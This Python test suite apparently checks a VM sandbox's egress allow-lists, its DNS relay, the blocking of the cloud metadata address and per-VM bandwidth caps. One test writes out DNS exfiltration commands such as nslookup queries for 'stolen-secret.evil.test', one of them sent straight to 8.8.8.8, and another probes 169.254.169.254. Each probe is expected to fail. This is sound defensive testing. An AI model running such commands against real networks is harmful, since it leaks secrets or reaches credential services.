"""Allow-lists, the names on them, the relay that asks for those, and the rate at which all of it goes."""

import json
import threading
import time
import unittest
from typing import Any, List

from .network import lab
from .network.case import NetworkTestCase, connected
from .network.lab import run
from .support import limits

WEB, OTHER = "198.51.100.1", "198.51.100.2"


def load_tests(loader: Any, tests: unittest.TestSuite, pattern: Any) -> unittest.TestSuite:
    return lab.load(__name__, tests)


class AllowLists(NetworkTestCase):
    def test_names_are_pinned_to_what_the_vm_was_answered(self) -> None:
        vm = self.connected({"egress": ["web.test"]})
        # Not before its name was asked for.
        self.assertEqual(self.reason(vm, "http://{}/".format(WEB), timeout=5), "unreachable")
        self.assertEqual(self.get(vm, "http://web.test/")["status"], 200)
        self.assertEqual(self.get(vm, "http://{}/".format(WEB))["status"], 200)
        self.assertEqual(self.reason(vm, "http://{}/".format(OTHER), timeout=5), "unreachable")
        self.assertEqual(self.reason(vm, "http://other.test/"), "dns")
        pinned = [item for item in json.loads(run("nft --json list ruleset"))["nftables"] if "set" in item]
        names = next(item["set"] for item in pinned if item["set"]["name"].startswith("names_"))
        element = names["elem"][0]["elem"]
        self.assertEqual(element["val"], WEB)
        self.assertIn(element["timeout"], range(60, 7201))

    def test_aliases_and_patterns_lead_to_their_addresses(self) -> None:
        vm = self.connected({"egress": ["www.web.test", "*.sub.test"]})
        self.assertEqual(self.get(vm, "http://www.web.test/")["status"], 200)
        self.assertEqual(self.get(vm, "http://a.sub.test/")["status"], 200)
        self.assertEqual(self.reason(vm, "http://web.test/"), "dns")
        self.assertEqual(self.reason(vm, "http://sub.test/"), "dns")

    def test_ports_hold_for_names_and_for_networks(self) -> None:
        vm = self.connected({"egress": ["web.test:80", "198.51.100.2/32:80"]})
        self.assertEqual(self.get(vm, "http://web.test/")["status"], 200)
        self.assertEqual(self.reason(vm, "http://web.test:5003/", timeout=5), "unreachable")
        self.assertEqual(self.get(vm, "http://{}/".format(OTHER))["status"], 200)
        self.assertEqual(self.reason(vm, "http://{}:5003/".format(OTHER), timeout=5), "unreachable")
        self.fails(vm, "ping -c 1 -W 1 {}".format(OTHER))

    def test_networks_without_ports_allow_everything_to_there(self) -> None:
        vm = self.connected({"egress": ["198.51.100.0/24"]})
        self.sh(vm, "ping -c 1 -W 5 {}".format(WEB))
        self.assertEqual(self.get(vm, "http://{}/".format(OTHER))["status"], 200)
        self.fails(vm, "ping -c 1 -W 1 8.8.8.8")
        # Its own server lies in the network: a VM may ask it itself.
        self.assertIn(WEB, self.sh(vm, "nslookup -type=a web.test 198.51.100.53"))

    def test_empty_list_leaves_the_gateway_alone(self) -> None:
        vm = self.connected({"egress": []})
        gateway = vm.get_info()["network_config"]["gateway"]
        self.sh(vm, "ping -c 1 -W 5 {}".format(gateway))
        self.assertEqual(self.reason(vm, "http://web.test/"), "dns")
        self.assertEqual(self.reason(vm, "http://{}/".format(WEB), timeout=5), "unreachable")
        self.assertEqual(vm.get_info()["network_config"]["egress"], [])

    def test_name_that_leads_to_the_metadata_service_leads_nowhere(self) -> None:
        vm = self.connected({"egress": ["metadata.test", "0.0.0.0/0"]})
        self.assertEqual(self.get(vm, "http://{}/".format(OTHER))["status"], 200)
        self.assertEqual(self.reason(vm, "http://metadata.test/", timeout=2), "timeout")
        self.assertEqual(self.reason(vm, "http://169.254.169.254/", timeout=2), "timeout")

    def test_names_outside_of_the_list_are_asked_of_nobody(self) -> None:
        vm = self.connected({"egress": ["web.test"], "dns_servers": ["8.8.8.8"]})
        self.assertEqual(self.reason(vm, "http://stolen-secret.web.test/"), "dns")
        self.fails(vm, "nslookup -type=txt stolen-secret.evil.test")
        # Nor of its server by another way than the relay.
        self.fails(vm, "nslookup -type=a stolen-secret.evil.test 8.8.8.8", timeout=30)
        self.get(vm, "http://web.test/")
        self.assertEqual(self.lab.order("log")["names"], ["web.test 1"])


class Relays(NetworkTestCase):
    def test_relay_passes_answers_on_by_both_transports(self) -> None:
        vm = self.connected()
        self.assertEqual(self.get(vm, "http://long.test/")["status"], 200)
        self.assertEqual([name for name in self.lab.order("log")["names"] if "long" in name], ["long.test 1"] * 2)
        self.assertEqual(self.reason(vm, "http://no-such-name.test/"), "dns")

    def test_relay_answers_without_ipv6(self) -> None:
        vm = self.connected()
        self.fails(vm, "nslookup -type=aaaa web.test | grep -q 2001:db8")
        self.assertEqual(self.lab.order("log")["names"], [])

    def test_server_that_is_dead_gives_an_answer_in_the_end(self) -> None:
        vm = self.connected({"dns_servers": ["127.0.0.1"]})
        begun = time.monotonic()
        self.assertEqual(self.reason(vm, "http://web.test/"), "dns")
        self.assertLess(time.monotonic() - begun, 20)
        alive = self.connected({"dns_servers": ["127.0.0.1", "198.51.100.53"]})
        self.assertEqual(self.get(alive, "http://web.test/")["status"], 200)

    def test_many_questions_at_once_are_all_answered(self) -> None:
        vm = self.connected({"egress": ["*.test"]})
        answers: List[Any] = []

        def ask(number: int) -> None:
            answers.append(vm.send_command("process_request", {"url": "http://a.sub.test/{}".format(number)}))

        threads = [threading.Thread(target=ask, args=(number,)) for number in range(30)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        self.assertEqual([a for a in answers if a is None or a["status"] != "ok"], [])

    def test_relay_serves_its_own_vm_alone(self) -> None:
        vm, other = self.connected(), self.connected()
        gateway = other.get_info()["network_config"]["gateway"]
        self.fails(vm, "nslookup -type=a web.test {}".format(gateway), timeout=30)
        self.assertEqual(self.lab.order("log")["names"], [])


class Bandwidth(NetworkTestCase):
    """The rate counts frames; 1448 of a full frame's 1514 bytes are the program's."""

    SECONDS = 8.0

    def rate_from(self, vm: Any) -> float:
        """Mbit/s that the internet received, frames' headers included."""
        self.lab.order("reset")
        script = "timeout {} dd if=/dev/zero bs=64k 2>/dev/null | nc {} 5001; true".format(int(self.SECONDS), WEB)
        self.sh(vm, script, timeout=self.SECONDS * 4)
        total, seconds = self.lab.order("log")["sunk"][0]
        return float(total * 8 / seconds / 1e6 * 1514 / 1448)

    def rate_to(self, vm: Any) -> float:
        script = "timeout {} nc {} 5002 </dev/null >/dev/null; true".format(int(self.SECONDS), WEB)
        begun, before = time.monotonic(), vm.get_health_metrics().network_rx_bytes
        self.sh(vm, script, timeout=self.SECONDS * 4)
        return float((vm.get_health_metrics().network_rx_bytes - before) * 8 / (time.monotonic() - begun) / 1e6)

    def test_rate_is_held_in_both_directions(self) -> None:
        for rate in (4, 40):
            vm = self.running(network_config=connected(), resource_limits=limits(network_bandwidth_mbps=rate))
            with self.subTest(rate=rate):
                self.assertAlmostEqual(self.rate_from(vm), rate, delta=rate * 0.1)
                self.assertAlmostEqual(self.rate_to(vm), rate, delta=rate * 0.1)
                print("at {} Mbit/s: from {:.1f}, to {:.1f}".format(rate, self.rate_from(vm), self.rate_to(vm)))

    def test_vms_do_not_share_their_rates(self) -> None:
        vms = [
            self.running(network_config=connected(), resource_limits=limits(network_bandwidth_mbps=8)) for _ in range(3)
        ]
        rates: List[float] = []
        threads = [threading.Thread(target=lambda vm=vm: rates.append(self.rate_to(vm))) for vm in vms]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        for rate in rates:
            self.assertAlmostEqual(rate, 8, delta=0.8)


if __name__ == "__main__":
    unittest.main()
